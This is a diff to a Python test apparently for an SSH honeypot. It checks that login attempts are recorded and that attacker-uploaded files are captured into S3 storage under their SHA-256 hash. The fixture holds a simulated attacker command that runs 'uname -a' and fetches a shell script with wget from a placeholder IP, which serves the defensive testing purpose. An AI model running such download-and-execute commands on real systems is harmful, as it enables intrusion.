@@ -205,6 +205,13 @@ def test_what_the_readme_says(bubblewrap: None, tmp_path: Path, storage: str) ->
             until(lambda: re.search(r"\b3 attempts to log in, 1 login", sh(REPORT)), "all is on record", seconds=40)
             told = sh(REPORT)
             assert "123456" in told
+            if storage == "s3":
+                sh(ATTACK.replace("'uname -a; wget http://192.0.2.1/x.sh'", "'cat > /tmp/bot' < /bin/true"))
+                malware = Path("/bin/true").read_bytes()
+                name = f"captured/{hashlib.sha256(malware).hexdigest()}"
+                until(lambda: store.objects().get(name) == malware, "the file is in the bucket", seconds=40)
+                until(lambda: not list((tmp_path / "trap" / "spool").glob("*.captured")), "nothing waits")
+                assert "captured" not in sh(REPORT.replace("report", "ls"))
             assert "wget" in told
         finally:
             os.killpg(process.pid, signal.SIGTERM)
